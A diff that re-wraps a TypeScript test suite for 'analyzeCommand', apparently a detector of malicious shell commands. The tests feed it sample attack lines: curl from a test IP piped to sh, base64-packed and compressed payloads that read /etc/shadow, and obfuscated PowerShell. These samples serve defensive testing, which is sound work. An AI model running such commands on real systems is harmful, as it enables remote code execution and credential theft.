@@ -29,7 +29,9 @@ describe('analyzeCommand on ordinary administration', () => {
 })
 
 describe('an attack among ordinary lines', () => {
-  const ordinary = ordinaryScripts.filter(([, text]) => !text.includes('<<') && !text.includes('<#')).map(([, text]) => text)
+  const ordinary = ordinaryScripts
+    .filter(([, text]) => !text.includes('<<') && !text.includes('<#'))
+    .map(([, text]) => text)
 
   it('is found behind and in front of any ordinary script', () => {
     for (const text of ordinary) {
@@ -66,13 +68,23 @@ describe('the answer', () => {
   })
 
   it('holds one hit of a category, the strong one before the weak one', () => {
-    const { strong, weak } = analyzeCommand('curl -fsSL https://get.docker.com | sh\ncurl -s http://198.51.100.7/x | sh\ncurl -s http://198.51.100.8/y | sh')
-    expect(strong.map(({ category, excerpt }) => [category, excerpt])).toEqual([['download-and-run', 'curl -s http://198.51.100.7/x | sh']])
+    const { strong, weak } = analyzeCommand(
+      'curl -fsSL https://get.docker.com | sh\ncurl -s http://198.51.100.7/x | sh\ncurl -s http://198.51.100.8/y | sh',
+    )
+    expect(strong.map(({ category, excerpt }) => [category, excerpt])).toEqual([
+      ['download-and-run', 'curl -s http://198.51.100.7/x | sh'],
+    ])
     expect(weak).toEqual([])
   })
 
   it('tells an ordinary script nothing', () => {
-    expect(analyzeCommand('systemctl restart app')).toMatchObject({ strong: [], weak: [], layers: 0, decodedBy: [], truncated: false })
+    expect(analyzeCommand('systemctl restart app')).toMatchObject({
+      strong: [],
+      weak: [],
+      layers: 0,
+      decodedBy: [],
+      truncated: false,
+    })
   })
 
   it.each([
@@ -80,20 +92,30 @@ describe('the answer', () => {
     ['zlib', deflateSync, 'base64 -d | zlib-flate -uncompress | bash'],
     ['raw deflate', deflateRawSync, 'base64 -d | inflate | bash'],
   ])('opens payloads compressed with %s', (_, pack, unpack) => {
-    const analysis = analyzeCommand(`echo ${pack('cat /etc/shadow; echo some more text').toString('base64')} | ${unpack}`)
+    const analysis = analyzeCommand(
+      `echo ${pack('cat /etc/shadow; echo some more text').toString('base64')} | ${unpack}`,
+    )
     expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
     expect(analysis.decodedBy).toEqual(['base64 and compression'])
   })
 
   it('leaves a payload closed that is none', () => {
-    expect(analyzeCommand(`echo ${Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]).toString('base64')} | base64 -d | gunzip | bash`)).toMatchObject({ layers: 0, truncated: false })
+    expect(
+      analyzeCommand(
+        `echo ${Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]).toString('base64')} | base64 -d | gunzip | bash`,
+      ),
+    ).toMatchObject({ layers: 0, truncated: false })
   })
 
   it('calls hiding for its own sake weak', () => {
     expect(categoriesOf(analyzeCommand('c\\u\\r\\l -s localhost/health').weak)).toEqual(['obfuscation'])
-    expect(categoriesOf(analyzeCommand(`powershell -enc ${Buffer.from('Get-Date', 'utf16le').toString('base64')}`).weak)).toEqual(['obfuscation'])
+    expect(
+      categoriesOf(analyzeCommand(`powershell -enc ${Buffer.from('Get-Date', 'utf16le').toString('base64')}`).weak),
+    ).toEqual(['obfuscation'])
     const twice = Buffer.from('echo 5265737461727420617070 | xxd -r -p').toString('base64')
-    expect(analyzeCommand(`echo ${twice} | base64 -d`).weak).toMatchObject([{ category: 'obfuscation', why: 'hidden by base64, then hexadecimal digits' }])
+    expect(analyzeCommand(`echo ${twice} | base64 -d`).weak).toMatchObject([
+      { category: 'obfuscation', why: 'hidden by base64, then hexadecimal digits' },
+    ])
   })
 })
 
@@ -125,20 +147,27 @@ describe('long texts', () => {
 
   it('may not use up what is reserved for scripts inside scripts', () => {
     const expanded = `a=${'x'.repeat(8_000)}\n${'b=$a$a\n'.repeat(20)}`
-    const nested = Array.from({ length: 3 }, (_, index) => `bash -c "bash -c 'echo ${index} ${'y'.repeat(9_000)}'"`).join('\n')
+    const nested = Array.from(
+      { length: 3 },
+      (_, index) => `bash -c "bash -c 'echo ${index} ${'y'.repeat(9_000)}'"`,
+    ).join('\n')
     const analysis = analyzeCommand(`${expanded}${nested}\nbash -c 'cat /etc/shadow'`)
     expect(categoriesOf(analysis.strong)).toEqual(['credential-files'])
   })
 
   it('hidden in more texts than are looked at are marked', () => {
-    const blobs = Array.from({ length: 400 }, (_, index) => Buffer.from(`echo number ${index} of many`).toString('base64'))
+    const blobs = Array.from({ length: 400 }, (_, index) =>
+      Buffer.from(`echo number ${index} of many`).toString('base64'),
+    )
     expect(analyzeCommand(`${blobs.join('\n')}\nbase64 -d`).truncated).toBe(true)
   })
 
   it('inside other texts, too many of them, are marked', () => {
     let text = 'z'.repeat(20_000)
     for (const depth of [0, 1, 2, 3, 4]) text = `eval 'echo ${depth};' ${JSON.stringify(text)}`
-    const wide = Array.from({ length: 3 }, (_, index) => `x=${index}; ${text.replaceAll('z', String(index))}`).join('\n')
+    const wide = Array.from({ length: 3 }, (_, index) => `x=${index}; ${text.replaceAll('z', String(index))}`).join(
+      '\n',
+    )
     expect(analyzeCommand(wide).truncated).toBe(true)
   })
 })
@@ -146,7 +175,37 @@ describe('long texts', () => {
 /** Pieces of real syntax, so that the parsers are reached. */
 const pieces = fc.constantFrom(
   ...attackScripts.map(([, text]) => text),
-  '$(', '`', '"', "'", '(', ')', '{', '}', '<<EOF\n', 'EOF\n', '|', '&&', ';', '\n', '\\', '^', '%a%', '$a', 'a=', '@"\n', '"@', '<#', '#>', '${', '[[ ', ' ]]', '-f', '-join', '\0', '\uD800', '\u202E',
+  '$(',
+  '`',
+  '"',
+  "'",
+  '(',
+  ')',
+  '{',
+  '}',
+  '<<EOF\n',
+  'EOF\n',
+  '|',
+  '&&',
+  ';',
+  '\n',
+  '\\',
+  '^',
+  '%a%',
+  '$a',
+  'a=',
+  '@"\n',
+  '"@',
+  '<#',
+  '#>',
+  '${',
+  '[[ ',
+  ' ]]',
+  '-f',
+  '-join',
+  '\0',
+  '\uD800',
+  '\u202E',
 )
 const scripts = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 200 }),
@@ -155,9 +214,12 @@ const scripts = fc.oneof(
 )
 
 describe('any text', () => {
-  it.each(['Get-Item <#>', '& "C:\\x.exe" <#>a', 'Get-Item <##>', '<#>#> Get-Item'])('gets an answer where a comment in PowerShell overlaps its own end: %s', (text) => {
-    expect(analyzeCommand(text).strong).toEqual([])
-  })
+  it.each(['Get-Item <#>', '& "C:\\x.exe" <#>a', 'Get-Item <##>', '<#>#> Get-Item'])(
+    'gets an answer where a comment in PowerShell overlaps its own end: %s',
+    (text) => {
+      expect(analyzeCommand(text).strong).toEqual([])
+    },
+  )
 
   it('gets an answer, the same every time, within its bounds', () => {
     fc.assert(
